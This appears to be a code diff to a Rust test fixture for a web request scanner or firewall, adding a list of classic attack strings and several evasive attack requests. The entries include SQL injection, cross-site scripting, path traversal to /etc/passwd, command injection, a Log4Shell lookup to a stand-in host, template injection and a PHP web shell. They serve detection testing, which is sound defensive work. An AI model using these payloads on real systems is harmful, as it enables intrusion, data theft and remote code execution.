@@ -218,6 +218,26 @@ pub(crate) const ATTACKS: &[&str] = &[
     "x%0d%0aSet-Cookie: admin=1",
 ];
 
+/// Attacks of each class that are no more than that: they are recognised wherever they hide.
+pub(crate) const PLAIN: &[&str] = &[
+    "1' OR '1'='1",
+    "-1' UNION ALL SELECT NULL,NULL,concat(user(),0x3a,version())-- ",
+    "1' AND SLEEP(5)-- -",
+    "'; DROP TABLE users; --",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "\"><script>alert(document.cookie)</script>",
+    "../../../../etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "; cat /etc/passwd",
+    "$(cat /etc/passwd)",
+    "${jndi:ldap://evil.example/a}",
+    "{{config.__class__.__init__.__globals__}}",
+    "<?php system($_GET['c']); ?>",
+    "php://filter/convert.base64-encode/resource=index.php",
+];
+
 /// What attackers do outside of values.
 pub(crate) fn attacking_requests() -> Vec<Request> {
     let get = Request::get;
@@ -276,5 +296,8 @@ pub(crate) fn attacking_requests() -> Vec<Request> {
         get("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"),
         get("/search?q=%3Csvg%3E%3Cuse%20href=%22data:image/svg+xml,x%22%3E"),
         get("/?next=%253Cscript%253Ealert(1)"),
+        get("/?id=1%20UNION/*&id=*/SELECT/*&id=*/1,2"),
+        get("/?f=..%25c0%25af..%25c0%25afboot.ini"),
+        get("/?q=function(){alert(1)}()"),
     ]
 }
